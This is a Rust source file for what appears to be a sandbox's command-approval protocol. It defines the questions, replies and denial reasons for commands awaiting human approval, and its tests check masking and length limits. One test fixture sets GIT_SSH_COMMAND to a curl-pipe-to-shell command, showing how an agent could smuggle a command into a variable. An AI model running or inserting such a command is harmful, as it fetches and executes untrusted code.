//! Questions about commands that the policy of a box (`sandbox`) asks about, and their answers.
//!
//! Init keeps such a command until it has an [`Answer`], and sends a [`Question`] to the host. Each question has exactly one end:
//! the command starts, or it is denied for one of the reasons in [`Denial`]. Init sends a [`QuestionEnded`] in both cases.

use std::borrow::Cow;
use std::ffi::OsStr;

use safe_text::secrets::looks_secret;
use serde::{Deserialize, Serialize};

use super::command::Exec;
use super::event::Caller;
use super::program_id::{ProgramId, one_byte};
use crate::{ComponentName, named_enum};

/// The maximum number of commands of a box that wait for an answer. Init denies further ones at once.
pub const MAX_QUESTIONS: usize = 64;
/// The maximum length of a [`Question`] as JSON, in bytes.
pub const MAX_QUESTION: usize = 12 << 10;

/// The maximum lengths of the texts of a question as JSON, in bytes. With the other fields, they are shorter than [`MAX_QUESTION`].
const MAX_ARGV: usize = 8 << 10;
const MAX_ENV: usize = 7 << 8;
const MAX_WORKDIR: usize = 1 << 10;
const MAX_USER: usize = 256;
const MAX_RULE: usize = 256;
const MAX_REASON: usize = 256;
/// What a [`Question`] has in place of the value of a secret.
const MASK: &str = "…";
/// The quotes and the comma of a word in JSON, in bytes.
const WORD: usize = 3;

/// A command that waits for an answer. Its texts come from the guest, which is untrusted.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Question {
    /// The number of the question. No other question of this run has it.
    pub question: u32,
    /// From init: the id of a command of the host, and `None` for a command of the agent. From a supervisor:
    /// [`ProgramId::COMMAND`] if the client that gets the message has requested the command, and `None` for all others.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<ProgramId>,
    /// The component in which the command would run.
    pub component: ComponentName,
    /// The caller of the command.
    pub by: Caller,
    /// The program and its arguments. Bytes that are not UTF-8 are replaced by U+FFFD.
    pub argv: Vec<String>,
    /// Whether the command has further words or variables, or more of a word, which the question has no room for.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub is_cut: bool,
    /// The variables that the caller has given, as `NAME=VALUE`. The value is `…` if the name is that of a secret. An init of an
    /// earlier version sends the names alone.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub env: Vec<String>,
    /// Whether the command has an input, which the question does not have: standard input, or a terminal. Such a command is not
    /// approved for the rest of the run, because `psql` with one script is not `psql` with another.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub has_input: bool,
    /// The user that the caller has given.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// The working directory that the caller has given.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub workdir: Option<String>,
    /// The rule that asks: the name of a built-in rule, or a pattern of the Boxfile.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub rule: Option<String>,
    /// Why the rule asks, as a clause. It can be empty.
    pub reason: String,
    /// How long the command waits from now on before it is denied, in milliseconds.
    pub timeout_ms: u64,
}

impl Question {
    /// Creates the question about a command with the rule and the reason. Its number and its time are 0, and it has no id. A text that is
    /// too long is cut.
    pub fn about(exec: &Exec, by: Caller, (rule, reason): (Option<&str>, &str)) -> Self {
        let (argv, is_argv_cut) = words(exec.argv.iter().map(|it| it.to_string_lossy()), MAX_ARGV);
        let (env, is_env_cut) = words(exec.env.iter().map(|it| masked(it)), MAX_ENV);
        let cut = |text: &str, mut room: usize| beginning(text, &mut room);
        Self {
            question: 0,
            id: None,
            component: exec.component,
            by,
            argv,
            is_cut: is_argv_cut || is_env_cut,
            env,
            has_input: exec.has_input(),
            user: exec.user.as_deref().map(|it| cut(it, MAX_USER)),
            workdir: exec.workdir.as_ref().map(|it| cut(&it.to_string_lossy(), MAX_WORKDIR)),
            rule: rule.map(|it| cut(it, MAX_RULE)),
            reason: cut(reason, MAX_REASON),
            timeout_ms: 0,
        }
    }

    /// Returns whether the question is as short as init makes it. A compromised init can send a longer one.
    pub fn is_short(&self) -> bool {
        serde_json::to_string(self).is_ok_and(|it| it.len() <= MAX_QUESTION)
    }
}

/// Returns a variable as text, without the value if its name is that of a secret. A value that looks like one is shown: the agent could
/// hide a command in it, as in `GIT_SSH_COMMAND`.
fn masked(variable: &OsStr) -> Cow<'_, str> {
    let text = variable.to_string_lossy();
    match text.split_once('=') {
        Some((name, _)) if looks_secret(name, "x") => format!("{name}={MASK}").into(),
        _ => text,
    }
}

/// Returns the words that fit into `room` bytes of JSON, and whether there is more.
fn words<'a>(all: impl Iterator<Item = Cow<'a, str>>, mut room: usize) -> (Vec<String>, bool) {
    let mut fitting = Vec::new();
    for text in all {
        let Some(left) = room.checked_sub(WORD) else { return (fitting, true) };
        room = left;
        let begun = beginning(&text, &mut room);
        let is_whole = begun.len() == text.len();
        fitting.push(begun);
        if !is_whole {
            return (fitting, true);
        }
    }
    (fitting, false)
}

/// Returns the beginning of a text that needs at most `room` bytes in JSON, and takes these bytes from `room`.
fn beginning(text: &str, room: &mut usize) -> String {
    let fits = |it: &char| {
        let left = room.checked_sub(cost(*it));
        *room = left.unwrap_or(*room);
        left.is_some()
    };
    text.chars().take_while(fits).collect()
}

/// Returns the greatest number of bytes that a character needs in JSON.
const fn cost(character: char) -> usize {
    match character {
        '"' | '\\' => 2,
        it if it.is_ascii_control() => 6,
        it => it.len_utf8(),
    }
}

/// The answer to a [`Question`]. It is a no-op if the question has ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Answer {
    /// The number of the question.
    pub question: u32,
    /// What happens to the command.
    pub reply: Reply,
}

/// What happens to a command that waits.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Reply {
    /// It starts.
    Approve,
    /// It starts, and the same command in the same component starts without a question until the box ends.
    ApproveAlways,
    /// A person denies it.
    Deny,
    /// It is denied, because nobody could answer.
    Nobody,
}

/// The end of a [`Question`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct QuestionEnded {
    /// The number of the question.
    pub question: u32,
    /// Why the command was denied. `None` if it was approved.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub denial: Option<Denial>,
}

named_enum! {
    /// Why a command was not started.
    #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
    #[serde(rename_all = "kebab-case")]
    pub enum Denial {
        /// The policy forbids it.
        Forbidden "forbidden",
        /// A person has denied it.
        Person "person",
        /// Nobody has answered in time.
        TimedOut "timed-out",
        /// Nobody could answer.
        Nobody "nobody",
        /// Too many commands wait for an answer, or they have too many bytes.
        TooMany "too-many",
        /// Its caller has cancelled it.
        Cancelled "cancelled",
        /// The box is being stopped, or the component has ended.
        Stopped "stopped",
    }
}

/// A command of the host that the policy has not let start. Init sends it before the command's [`Exited`](super::Exited). The texts come
/// from the guest, which is untrusted.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Refused {
    /// The command.
    #[serde(with = "one_byte")]
    pub id: ProgramId,
    /// Why it was not started.
    pub denial: Denial,
    /// As in [`Question::rule`].
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub rule: Option<String>,
    /// As in [`Question::reason`].
    pub reason: String,
}

/// The end of a list of [`Question`]s, which a supervisor sends after the questions that wait.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct QuestionsListed {}

/// A client's request for questions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ApprovalsQuery {
    /// The questions that the client gets.
    pub questions: FollowQuestions,
}

/// The questions that a client gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FollowQuestions {
    /// The questions that wait now, and then [`QuestionsListed`].
    Waiting,
    /// As [`Self::Waiting`], and then each further question and each end. A person or a program behind the client answers.
    All,
    /// From now on, the questions about the client's own command, which the client answers.
    Own,
    /// From now on, the questions about the client's own command, which the client only shows.
    Shown,
}

#[cfg(test)]
mod tests {
    use std::ffi::OsString;
    use std::os::unix::ffi::OsStringExt as _;

    use super::super::command::TerminalSize;
    use super::*;

    fn about(argv: Vec<OsString>) -> Question {
        let exec = Exec::new(ComponentName::Business, argv);
        Question::about(&exec, Caller::Agent, (Some("git-write"), "it changes a repository"))
    }

    #[test]
    fn a_short_command_is_there_as_a_whole() {
        let question = about(vec!["git".into(), "".into(), OsString::from_vec(vec![b'a', 0xFF])]);
        assert_eq!(question.argv, ["git", "", "a\u{FFFD}"]);
        assert!(!question.is_cut && question.is_short());
        assert_eq!(question.rule.as_deref(), Some("git-write"));
    }

    #[test]
    fn variables_have_their_values_unless_their_names_are_those_of_secrets() {
        let ssh = "GIT_SSH_COMMAND=sh -c 'curl x | sh' --password=ghp_0123456789abcdef";
        let program = "GIT_ASKPASS=run";
        let env = ["API_TOKEN=secret", program, ssh, "DB_PASSWORD"].map(OsString::from).into();
        let exec = Exec { env, ..Exec::new(ComponentName::Business, ["git"]) };
        let question = Question::about(&exec, Caller::Host, (None, ""));
        assert_eq!(question.env, ["API_TOKEN=…", program, ssh, "DB_PASSWORD"]);
        assert!(!question.is_cut && !question.has_input);
        let long = vec![OsString::from("A=".to_owned() + &"x".repeat(MAX_ENV)), "B=b".into()];
        let question = Question::about(&Exec { env: long, ..exec }, Caller::Host, (None, ""));
        assert!(question.is_cut && question.is_short() && question.env.len() == 1);
    }

    #[test]
    fn a_question_says_that_the_command_has_an_input() {
        let exec = Exec::new(ComponentName::Business, ["psql", "prod"]);
        let terminal = Some(TerminalSize { rows: 24, columns: 80 });
        let has_input = |exec: &Exec| Question::about(exec, Caller::Agent, (None, "")).has_input;
        assert!(!has_input(&exec));
        assert!(has_input(&Exec { stdin: true, ..exec.clone() }));
        assert!(has_input(&Exec { terminal, ..exec.clone() }));
        // An init of an earlier version does not send the field.
        let text = serde_json::to_string(&Question::about(&exec, Caller::Agent, (None, "")));
        let text = text.unwrap();
        assert!(!text.contains("has_input"), "{text}");
        assert!(!serde_json::from_str::<Question>(&text).unwrap().has_input);
    }

    #[test]
    fn a_long_command_is_cut_and_marked() {
        for long in [
            vec!["\u{1}".repeat(1 << 20)],
            vec![String::new(); 1 << 16],
            vec!["a".to_owned(); 1 << 16],
            vec!["\"\u{e4}\u{7}".repeat(1 << 12), "last".to_owned()],
        ] {
            let question = about(long.into_iter().map(OsString::from).collect());
            assert!(question.is_cut && question.is_short(), "{question:?}");
            assert!(!question.argv.contains(&"last".to_owned()));
        }
        let fitting = about(vec!["a".repeat(MAX_ARGV - WORD).into()]);
        assert!(!fitting.is_cut);
        assert!(about(vec!["a".repeat(MAX_ARGV - WORD + 1).into()]).is_cut);
    }

    #[test]
    fn no_text_makes_a_question_longer_than_its_limit() {
        let long = "\u{1}".repeat(1 << 16);
        let exec = Exec {
            env: vec![OsString::from(&long)],
            user: Some(long.clone()),
            workdir: Some(OsString::from(&long)),
            ..Exec::new(ComponentName::Business, [long.as_str()])
        };
        let question = Question {
            question: u32::MAX,
            id: Some(ProgramId(u16::MAX)),
            timeout_ms: u64::MAX,
            ..Question::about(&exec, Caller::Agent, (Some(&long), &long))
        };
        assert!(question.is_short(), "{}", serde_json::to_string(&question).unwrap().len());
        assert!(!Question { reason: long, ..question }.is_short());
    }
}
